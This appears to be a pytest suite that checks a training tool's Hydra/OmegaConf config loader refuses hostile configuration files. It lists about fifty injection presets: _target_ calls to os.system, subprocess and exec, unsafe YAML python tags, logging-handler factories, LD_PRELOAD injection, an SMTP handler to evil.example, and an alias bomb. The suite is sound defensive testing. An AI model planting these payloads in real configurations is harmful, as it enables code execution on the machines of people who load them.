"""Configuration files of strangers: whatever they hold, nothing of it runs."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from rlhf_lightning.config.presets import CONF
from rlhf_lightning.config.yaml_check import check_yaml
from rlhf_lightning.errors import ConfigError

BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9))

# Name -> the text of conf/experiment/evil.yaml in a folder given by --config-dir.
PRESETS = {
    "callback": "hydra: {callbacks: {evil: {_target_: os.system, command: 'touch MARK'}}}",
    "callback with arguments": "hydra: {callbacks: {evil: {_target_: subprocess.run, _args_: [[touch, MARK]]}}}",
    "callback of builtins": 'hydra: {callbacks: {evil: {_target_: builtins.exec, _args_: [\'open("MARK", "w")\']}}}',
    "callback in place of ours": "hydra: {callbacks: {folder_lock: {_target_: os.system, command: 'touch MARK'}}}",
    "callback below ours": "hydra: {callbacks: {folder_lock: {evil: {_target_: os.system, command: 'touch MARK'}}}}",
    "callback in a list": "hydra: {callbacks: {sweep_table: {evil: [{_target_: os.system, command: 'touch MARK'}]}}}",
    "arguments of ours": "hydra: {callbacks: {sweep_table: {_args_: [{_target_: os.system, command: 'touch MARK'}]}}}",
    "partial": "hydra: {callbacks: {evil: {_target_: os.system, _partial_: true, command: 'touch MARK'}}}",
    "callback by reference": "evil: {_target_: os.system, command: 'touch MARK'}\nhydra: {callbacks: {evil: '${evil}'}}",
    "callbacks by reference": "evil: {x: {_target_: os.system, command: 'touch MARK'}}\nhydra: {callbacks: '${evil}'}",
    "target by reference": "evil: os.system\nhydra: {callbacks: {evil: {_target_: '${evil}', command: 'touch MARK'}}}",
    "target by a resolver": "hydra: {callbacks: {evil: {_target_: '${oc.decode:os.system}', command: 'touch MARK'}}}",
    "created node": "hydra: {callbacks: {evil: '${oc.create:\"{_target_: os.system, command: touch MARK}\"}'}}",
    "pickle of Hydra": "hydra: {callbacks: {evil: {_target_: hydra.experimental.callbacks.PickleJobInfoCallback}}}",
    "get_method": "hydra: {callbacks: {evil: {_target_: hydra.utils.get_method, path: os.system}}}",
    "pydoc": "hydra: {callbacks: {evil: {_target_: pydoc.pipepager, text: x, cmd: 'touch MARK'}}}",
    "runpy": "hydra: {callbacks: {evil: {_target_: runpy.run_path, path_name: FOLDER/evil.py}}}",
    "load of torch": "hydra: {callbacks: {evil: {_target_: torch.load, f: FOLDER/evil.pt, weights_only: false}}}",
    "launcher": "hydra: {launcher: {_target_: os.system, command: 'touch MARK'}}",
    "below a launcher": "hydra: {launcher: {x: {_target_: os.system, command: 'touch MARK'}}}",
    "sweeper": "hydra: {sweeper: {_target_: os.system, command: 'touch MARK'}}",
    "below a sweeper": "hydra: {sweeper: {params: {seed: {_target_: os.system, command: 'touch MARK'}}}}",
    "search space of Hydra": "hydra: {sweeper: {params: {+hydra.callbacks.evil._target_: os.system}}}",
    "factory of a handler": "hydra: {job_logging: {version: 1, handlers: {evil: {(): os.system, command: 'touch MARK'}}}}",
    "class of a handler": "hydra: {job_logging: {version: 1, handlers: {evil: {class: subprocess.Popen, args: 'touch MARK'}}}}",
    "factory of a formatter": "hydra: {hydra_logging: {version: 1, formatters: {evil: {(): os.system, command: 'touch MARK'}}}}",
    "filter": "hydra: {job_logging: {version: 1, filters: {evil: {(): FOLDER.evil}}}}",
    "object by name": "hydra: {job_logging: {version: 1, handlers: {e: {class: logging.StreamHandler, stream: ext://os.environ}}}}",
    "log elsewhere": "hydra: {job_logging: {version: 1, handlers: {e: {class: logging.FileHandler, filename: MARK}}}}",
    "mail": "hydra: {job_logging: {version: 1, handlers: {e: {class: logging.handlers.SMTPHandler, mailhost: evil.example}}}}",
    "working folder": "hydra: {run: {dir: FOLDER}, job: {chdir: true}}",
    "folder of Hydra's files": "hydra: {output_subdir: ../../evil}",
    "preloaded library": "hydra: {job: {env_set: {LD_PRELOAD: FOLDER/evil.so}}}",
    "path of Python": "hydra: {job: {env_set: {PYTHONPATH: FOLDER}}}",
    "component": "reward_head: {_target_: os.system, command: 'touch MARK'}",
    "stage": "stage: {_target_: os.system, command: 'touch MARK'}",
    "component of a group": "feedback_filter: {evil: {_target_: os.system, command: 'touch MARK'}}",
    "below a component": "reward_head: {init: {_target_: os.system, command: 'touch MARK'}}",
    "arguments of a component": "reward_head: {_args_: ['touch MARK']}",
    "settings of Lightning": "trainer: {callbacks: [{_target_: os.system, command: 'touch MARK'}]}",
    "strategy": "trainer: {strategy: {_target_: os.system, command: 'touch MARK'}}",
    "logger": "logger: {_target_: os.system, command: 'touch MARK'}",
    "section": "ppo: {learning_rate: {_target_: os.system, command: 'touch MARK'}}",
    "YAML object": "evil: !!python/object/apply:os.system ['touch MARK']",
    "YAML name": "evil: !!python/name:os.system",
    "YAML module": "evil: !!python/module:FOLDER.evil",
    "aliases": BOMB,
    "alias of itself": "evil: &a [*a]",
    "deep": "evil: " + "[" * 5000 + "]" * 5000,
    "no text": "evil: \udcff",
}


@pytest.fixture
def conf(tmp_path: Path, untouched: None) -> Path:
    folder = tmp_path / "conf"
    (folder / "experiment").mkdir(parents=True)
    (folder / "evil.py").write_text(f"open({str(tmp_path / 'MARK')!r}, 'w')\n")
    (folder / "plugins").mkdir()
    shutil.copy(folder / "evil.py", folder / "plugins" / "evil.py")
    return folder


def check_refused(outcome, folder: Path) -> None:
    assert outcome.code == 2, outcome.error or outcome.out
    assert outcome.error.startswith("error: ")
    assert "Traceback" not in outcome.error
    assert not (folder / "MARK").exists()


SWEPT = ("callback", "launcher", "below a launcher", "sweeper", "below a sweeper", "search space of Hydra", "class of a handler")


@pytest.mark.parametrize(("name", "sweep"), [*((name, False) for name in PRESETS), *((name, True) for name in SWEPT)])
def test_a_hostile_preset_runs_nothing(command, conf, tmp_path, name, sweep):
    text = PRESETS[name].replace("MARK", str(tmp_path / "MARK")).replace("FOLDER", str(conf))
    (conf / "experiment" / "evil.yaml").write_text(f"# @package _global_\n{text}\n", errors="surrogateescape")
    outcome = command(*(["-m", "seed=1,2"] if sweep else []), "stage=inspect", "+experiment=evil", "--config-dir", str(conf))
    check_refused(outcome, tmp_path)


@pytest.mark.parametrize(
    "text",
    [
        "hydra: {searchpath: ['pkg://evil']}",
        "x: ['pkg://evil']\nhydra: {searchpath: '${x}'}",
        "x: 'pkg://evil'\nhydra: {searchpath: ['${x}']}",
        "x: {searchpath: ['pkg://evil']}\nhydra: '${x}'",
    ],
)
def test_a_search_path_imports_nothing(command, conf, tmp_path, monkeypatch, text):
    monkeypatch.syspath_prepend(conf)
    (conf / "config.yaml").write_text(f"defaults: [_self_]\n{text}\n")
    check_refused(command("seed=1", "--config-path", str(conf)), tmp_path)


def test_a_folder_of_presets_may_be_searched(command, conf, tmp_path):
    main = OmegaConf.load(CONF / "config.yaml")
    main.hydra.searchpath = [f"file://{tmp_path}/more"]
    main.defaults.insert(len(main.defaults) - 1, {"more@_global_": "x"})
    (tmp_path / "more" / "more").mkdir(parents=True)
    (tmp_path / "more" / "more" / "x.yaml").write_text("seed: 7\n")
    shutil.copytree(CONF, conf, dirs_exist_ok=True)
    OmegaConf.save(main, conf / "config.yaml")
    outcome = command("seed=-1", "--config-path", str(conf))
    assert "seed=-1 must be" in outcome.error


@pytest.mark.parametrize("words", [["--config-path"], ["resume"]])
def test_the_folder_of_a_hostile_run_runs_nothing(command, conf, tmp_path, words):
    hostile = OmegaConf.load(CONF / "config.yaml")
    hostile.hydra.callbacks.evil = {"_target_": "os.system", "command": f"touch {tmp_path / 'MARK'}"}
    shutil.copytree(CONF, conf, dirs_exist_ok=True)
    OmegaConf.save(hostile, conf / "config.yaml")
    outcome = command(*([f"resume={conf}"] if words == ["resume"] else ["--config-path", str(conf)]))
    check_refused(outcome, tmp_path)
    assert "hydra.callbacks.evil" in outcome.error


@pytest.mark.parametrize(
    "word",
    [
        "hydra/job_logging=default", "hydra/hydra_logging=none", "hydra/launcher=joblib", "hydra/sweeper=optuna",
        "+hydra.job.env_set.MY_KEY=x", "hparams=seeds",
    ],
)  # fmt: skip
def test_what_hydra_brings_still_composes(command, word):
    outcome = command("--cfg", "job", word)
    assert outcome.code == 0, outcome.error


def test_a_configuration_is_a_regular_file(tmp_path):
    with pytest.raises(ConfigError, match="not a file of at most"):
        check_yaml("/dev/zero")
    (tmp_path / "x.yaml").write_bytes(b"a" * (5 << 20))
    with pytest.raises(ConfigError, match="not a file of at most"):
        check_yaml(str(tmp_path / "x.yaml"))
    (tmp_path / "y.yaml").write_text("a: &a [1, 2]\nb: [*a, *a]\n")
    check_yaml(str(tmp_path / "y.yaml"))
